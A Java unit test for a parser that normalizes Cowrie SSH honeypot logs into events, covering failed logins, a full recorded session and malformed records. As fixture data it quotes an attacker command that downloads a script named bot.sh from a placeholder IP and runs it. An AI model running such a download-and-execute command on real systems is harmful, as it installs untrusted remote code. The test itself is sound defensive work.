package io.hsystem.ingest.parse;

import static io.hsystem.ingest.parse.Samples.expected;
import static io.hsystem.ingest.parse.Samples.fields;
import static org.assertj.core.api.Assertions.assertThat;

import io.hsystem.ingest.internal.parse.Parsers;
import io.hsystem.ingest.internal.parse.RecordParser;
import io.hsystem.protocol.Event;
import io.hsystem.protocol.SourceType;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;

class CowrieParserTest {

  private static final String SESSION = "a1b2c3d4e5f6";

  private final RecordParser parser = Parsers.forSource(SourceType.COWRIE);

  @Test
  void noRecordsGiveNoEvents() {
    assertThat(Samples.parseOk(parser, "cowrie", "no.jsonl")).isEmpty();
  }

  @Test
  void failedLoginCarriesTheCredentials() {
    List<Event> events = Samples.parseOk(parser, "cowrie", "one.jsonl");

    assertThat(events).hasSize(1);
    assertThat(fields(events.get(0)))
        .containsExactlyInAnyOrderEntriesOf(
            expected(
                "event_time", Instant.parse("2025-08-27T14:25:03.123456Z"),
                "event_type", "login_attempt",
                "event_category", "honeypot",
                "event_code", "cowrie.login.failed",
                "source_type", "cowrie",
                "sensor_id", "hp-ssh-01",
                "service", "ssh",
                "session_id", SESSION,
                "src_ip", "203.0.113.9",
                "src_port", 51234L,
                "dst_ip", "10.0.0.5",
                "dst_port", 2222L,
                "username", "root",
                "password", "123456",
                "message", "login attempt [root/123456] failed"));
  }

  @Test
  void aWholeSession() {
    List<Event> events = Samples.parseOk(parser, "cowrie", "many.jsonl");

    assertThat(events).hasSize(8);
    assertThat(events)
        .extracting(e -> e.getString(io.hsystem.protocol.EventField.EVENT_TYPE))
        .containsExactly(
            "connection",
            "client_version",
            "login_success",
            "command",
            "file_download",
            "port_forward_request",
            "session_params",
            "session_closed");
    assertThat(fields(events.get(0)))
        .containsExactlyInAnyOrderEntriesOf(
            expected(
                "event_time", Instant.parse("2025-08-27T14:25:01Z"),
                "event_type", "connection",
                "event_category", "honeypot",
                "event_code", "cowrie.session.connect",
                "source_type", "cowrie",
                "sensor_id", "hp-ssh-01",
                "service", "ssh",
                "session_id", SESSION,
                "src_ip", "203.0.113.9",
                "src_port", 51234L,
                "dst_ip", "10.0.0.5",
                "dst_port", 2222L,
                "message",
                    "New connection: 203.0.113.9:51234 (10.0.0.5:2222) [session: a1b2c3d4e5f6]"));
    assertThat(fields(events.get(1)))
        .containsExactlyInAnyOrderEntriesOf(
            expected(
                "event_time", Instant.parse("2025-08-27T14:25:02Z"),
                "event_type", "client_version",
                "event_category", "honeypot",
                "event_code", "cowrie.client.version",
                "source_type", "cowrie",
                "sensor_id", "hp-ssh-01",
                "session_id", SESSION,
                "src_ip", "203.0.113.9",
                "user_agent", "SSH-2.0-libssh2_1.9.0",
                "message", "Remote SSH version: SSH-2.0-libssh2_1.9.0"));
    assertThat(fields(events.get(3)))
        .containsExactlyInAnyOrderEntriesOf(
            expected(
                "event_time", Instant.parse("2025-08-27T14:25:05Z"),
                "event_type", "command",
                "event_category", "honeypot",
                "event_code", "cowrie.command.input",
                "source_type", "cowrie",
                "sensor_id", "hp-ssh-01",
                "service", "ssh",
                "session_id", SESSION,
                "src_ip", "203.0.113.9",
                "command_line", "cd /tmp; wget http://198.51.100.7/bot.sh; sh bot.sh",
                "message", "CMD: cd /tmp; wget http://198.51.100.7/bot.sh; sh bot.sh"));
    assertThat(fields(events.get(4)))
        .containsAllEntriesOf(
            expected(
                "event_type", "file_download",
                "url", "http://198.51.100.7/bot.sh",
                "hash_sha256", "5a7b9f4c2d1e0f3a6b8c9d0e1f2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c",
                "file_path", "/tmp/bot.sh"));
    assertThat(fields(events.get(5)))
        .containsAllEntriesOf(expected("dst_ip", "8.8.8.8", "dst_port", 53L));
    assertThat(fields(events.get(6)))
        .containsExactlyInAnyOrderEntriesOf(
            expected(
                "event_time", Instant.parse("2025-08-27T14:25:08Z"),
                "event_type", "session_params",
                "event_category", "honeypot",
                "event_code", "cowrie.session.params",
                "source_type", "cowrie",
                "sensor_id", "hp-tel-01",
                "service", "telnet",
                "session_id", "0f0e0d0c0b0a",
                "src_ip", "203.0.113.10"));
  }

  @Test
  void malformedRecordsAreRejectedWithTheFieldNamed() {
    assertThat(Samples.reasons(parser, "cowrie", "malformed.jsonl"))
        .containsExactly(
            "eventid: missing",
            "eventid: not a Cowrie event id: 'login.failed'",
            "timestamp: missing",
            "timestamp: not a timestamp: 'not-a-time'",
            "src_port: not a number: 'fifty'",
            "password: expected a string, got an object",
            "eventid: expected a string, got an array",
            "record: empty object");
  }
}
